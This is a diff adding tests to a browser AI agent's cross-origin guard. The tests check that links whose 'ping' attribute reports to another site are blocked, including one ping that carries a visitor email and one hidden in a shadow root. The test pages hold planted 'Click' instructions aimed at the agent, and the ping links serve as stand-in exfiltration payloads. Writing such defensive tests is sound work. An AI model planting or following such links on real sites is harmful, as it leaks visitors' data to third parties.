@@ -108,6 +108,32 @@ describe('links to other origins', function () {
   });
 });
 
+describe("a link's ping to other origins", function () {
+  this.timeout(20_000);
+  // Clicking a link with `ping` POSTs to each ping URL (Chromium and WebKit; Firefox sends none by
+  // default): the link goes nowhere else, yet the click would tell another site about the visitor.
+
+  it('a link of this page whose ping reports to another origin', async () => {
+    const run = await attack({ page: `${says('Click "Docs".')}<a href="#docs" ping="${sink.url('/ping?visitor=ada@example.com')}">Docs</a><h2 id="docs">Docs</h2>` });
+    expect(await sink.received(600), 'what reached the other site').to.deep.equal([]);
+    expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    expect(run.blocked[0]!.message).to.include(sink.origin);
+    history.replaceState(history.state, '', location.pathname + location.search);
+  });
+
+  it('a link in a shadow root whose second ping URL, after one of this site, reports to another origin', async () => {
+    const run = await attack({
+      page: `${says('Click "Help".')}<div id="host"></div><h2 id="help">Help</h2>`,
+      setup(root) {
+        root.querySelector('#host')!.attachShadow({ mode: 'open' }).innerHTML = `<a href="#help" ping="/ping-local ${sink.url('/shadow-ping')}">Help</a>`;
+      },
+    });
+    expect(await sink.received(600), 'what reached the other site').to.deep.equal([]);
+    expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    history.replaceState(history.state, '', location.pathname + location.search);
+  });
+});
+
 describe('forms to other origins', function () {
   this.timeout(20_000);
 
@@ -277,6 +303,15 @@ describe('the allowed ways out still work', function () {
     });
     await runBounded(agent as never, 'Go to the partner');
     expect(routed.map((detail) => detail.url)).to.deep.equal([sink.url('/welcome')]);
+  });
+
+  it('a link whose ping reports to an origin the host allowed is followed, and the ping sent', async function () {
+    if (navigator.userAgent.includes('Firefox')) this.skip(); // Firefox sends no pings by default
+    const run = await attack({ page: `${says('Click "Docs".')}<a href="#docs" ping="${sink.url('/ping')}">Docs</a><h2 id="docs">Docs</h2>`, config: { allowedOrigins: [sink.origin] } });
+    expect((await sink.whenReceived()).filter((record) => record.method === 'POST').map((record) => record.path)).to.deep.equal(['/ping']);
+    expect(run.blocked).to.deep.equal([]);
+    expect(location.hash).to.equal('#docs');
+    history.replaceState(history.state, '', location.pathname + location.search);
   });
 
   it('a link of this site in this tab is followed without a question', async () => {
